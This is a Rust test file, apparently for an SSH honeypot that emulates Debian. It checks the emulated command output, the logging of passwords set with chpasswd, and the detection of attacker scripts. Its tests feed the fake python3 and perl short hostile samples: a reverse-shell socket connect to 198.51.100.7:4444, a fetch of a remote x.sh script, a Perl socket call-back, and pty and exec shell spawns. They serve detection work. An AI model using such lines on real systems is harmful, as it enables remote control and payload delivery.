//! What the programs say and leave behind, beside what was recorded of those of Debian 12.

use std::sync::{Arc, Mutex};

use crate::{
    Host,
    machine::{Account, LogIn, Via},
    shell::{
        Exit, Process, Seat,
        pipe::{Reader, Writer},
    },
    testing,
};

/// A seat on a machine of Debian.
struct Bench {
    host: Arc<Host>,
    seat: Arc<Seat>,
}

/// What a program did.
#[derive(Debug, PartialEq, Eq)]
struct Outcome {
    out: String,
    errors: String,
    status: u8,
}

impl Bench {
    fn new(seed: u8) -> Self {
        let host = testing::host(seed);
        let machine = Arc::clone(host.machine());
        let account = machine.account("root").unwrap();
        let (conn, _peer) = testing::open(&host, decnet_proto::service::ServiceId::Http);
        let witness = conn.witness();
        let peer = witness.session().src;
        let presence = machine.log_in(LogIn { account: &account, peer, via: Via::Ssh, terminal: false });
        let seat = Arc::new(Seat::new(machine, witness, account, presence));
        Self { host, seat }
    }

    async fn run(&self, account: &Account, args: Vec<Vec<u8>>, input: &[u8]) -> Outcome {
        let machine = Arc::clone(self.seat.machine());
        let mut files = machine.files(testing::session().src.ip(), account);
        files.change_directory(b"/").unwrap();
        let (out, errors) = (Arc::new(Mutex::new(Vec::new())), Arc::new(Mutex::new(Vec::new())));
        let program = super::super::named(&args[0]);
        let mut process = Process {
            args,
            environment: vec![(b"PATH".to_vec(), b"/usr/sbin:/usr/bin:/sbin:/bin".to_vec())],
            account: account.clone(),
            input: Reader::bytes(input),
            output: Writer::bytes(Arc::clone(&out), 1 << 20),
            errors: Writer::bytes(Arc::clone(&errors), 1 << 20),
            files: files.as_process(4_242),
            machine,
            seat: Arc::clone(&self.seat),
            pid: 4_242,
            parent: self.seat.presence().shell(),
        };
        let exit = match program {
            Some(program) => program(&mut process).await,
            None => Exit::Code(127),
        };
        let text = |bytes: &Mutex<Vec<u8>>| String::from_utf8_lossy(&bytes.lock().unwrap()).into_owned();
        Outcome { out: text(&out), errors: text(&errors), status: exit.status() }
    }

    /// Runs a command line of plain words.
    fn words(&self, user: &str, line: &str, input: &[u8]) -> Outcome {
        let account = self.seat.machine().account(user).unwrap();
        let args = line.split(' ').map(|word| word.as_bytes().to_vec()).collect();
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().start_paused(true).build();
        runtime.unwrap().block_on(self.run(&account, args, input))
    }
}

/// Long numbers, hashes and dates are figures; the rest is form.
fn form(text: &str) -> String {
    let mut out = String::new();
    for line in text.lines() {
        if let Some((head, _)) = line.split_once(" installed on ") {
            out.push_str(head);
            out.push_str(" installed on …)\n");
            continue;
        }
        if line.starts_with("Last password change") {
            out.push_str(line.split_once(": ").map_or(line, |(head, _)| head));
            out.push('\n');
            continue;
        }
        let words: Vec<String> = line.split(':').map(figure).collect();
        out.push_str(&words.join(":"));
        out.push('\n');
    }
    out
}

/// The day on which Debian was asked.
const RECORDED: &str = "2026-11-26";

fn figure(word: &str) -> String {
    if word.starts_with("$y$j9T$") {
        return format!("hash of {}", word.len());
    }
    let mut out = String::new();
    let mut digits = String::new();
    for c in word.chars().chain(['\0']) {
        if c.is_ascii_digit() {
            digits.push(c);
            continue;
        }
        out.push_str(if digits.len() > 3 { "N" } else { &digits });
        digits.clear();
        out.extend(Some(c).filter(|c| *c != '\0'));
    }
    out
}

/// A recorded case: who, what, its input, and what came of it.
type Case = (String, String, Vec<u8>, Outcome);

fn recorded(text: &str) -> Vec<Case> {
    let mut cases: Vec<Case> = Vec::new();
    for line in text.lines() {
        let (mark, rest) = line.split_at(line.len().min(2));
        match (mark, cases.last_mut()) {
            ("< ", Some(case)) => case.2 = rest.replace("\\n", "\n").into_bytes(),
            ("O ", Some(case)) => case.3.out += &format!("{rest}\n"),
            ("E ", Some(case)) => case.3.errors += &format!("{rest}\n"),
            ("= ", Some(case)) => case.3.status = rest.parse().unwrap(),
            _ => {
                let (user, command) = line.split_once("$ ").unwrap();
                let outcome = Outcome { out: String::new(), errors: String::new(), status: 0 };
                cases.push((user.to_owned(), command.to_owned(), Vec::new(), outcome));
            }
        }
    }
    cases
}

#[test]
fn accounts_and_jobs_are_kept_as_debian_keeps_them() {
    let bench = Bench::new(3);
    let mut wrong = String::new();
    for (user, command, input, expect) in recorded(include_str!("tests/debian.txt")) {
        let today = bench.words("root", "date +%F", b"").out;
        let got = bench.words(&user, &command, &input);
        let out = got.out.replace(today.trim_end(), RECORDED);
        let got = Outcome { out: form(&out), errors: form(&got.errors), ..got };
        let expect = Outcome { out: form(&expect.out), errors: form(&expect.errors), ..expect };
        if got != expect {
            wrong += &format!("{user}$ {command}\n  got {got:#?}\n  not {expect:#?}\n");
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn a_new_password_is_told_of() {
    let bench = Bench::new(4);
    assert_eq!(bench.words("root", "chpasswd", b"root:k3ep-out\n").status, 0);
    let events = testing::events(&bench.host);
    let told = events.iter().find(|event| event.kind == "password_set").unwrap();
    assert_eq!((told.get("username"), told.get("password")), ("root", "k3ep-out"));
    assert_eq!(told.get("program"), "chpasswd");
}

/// Events of one program that is given a text.
fn told(program: &str, code: &str) -> Vec<testing::Seen> {
    let bench = Bench::new(5);
    bench.words("root", program, code.as_bytes());
    testing::events(&bench.host)
}

#[test]
fn where_scripts_go_is_told_of() {
    let events = told("python3", "import socket\ns=socket.socket()\ns.connect((\"198.51.100.7\", 4444))\n");
    let seen = events.iter().find(|event| event.kind == "exploit_attempt").unwrap();
    assert_eq!((seen.get("technique"), seen.get("detail")), ("reverse_shell", "198.51.100.7:4444"));
    let events =
        told("python3", "import urllib.request\nurllib.request.urlopen('http://198.51.100.7/x.sh')\n");
    let seen = events.iter().find(|event| event.kind == "download_attempt").unwrap();
    assert_eq!(seen.get("path"), "http://198.51.100.7/x.sh");
    let events = told("perl", "$c=new IO::Socket::INET(PeerAddr,\"198.51.100.7:443\");");
    let seen = events.iter().find(|event| event.kind == "exploit_attempt").unwrap();
    assert_eq!(seen.get("detail"), "198.51.100.7:443");
}

#[test]
fn python_gives_a_shell() {
    let bench = Bench::new(6);
    let got = bench.words("root", "python3 -c __import__('pty').spawn('/bin/sh')", b"echo $((40+2))\n");
    assert_eq!((got.out.as_str(), got.status), ("42\n", 0), "{got:?}");
    let got = bench.words("root", "perl -e exec(\"/bin/sh\")", b"echo $((40+2))\n");
    assert_eq!(got.out, "42\n", "{got:?}");
}
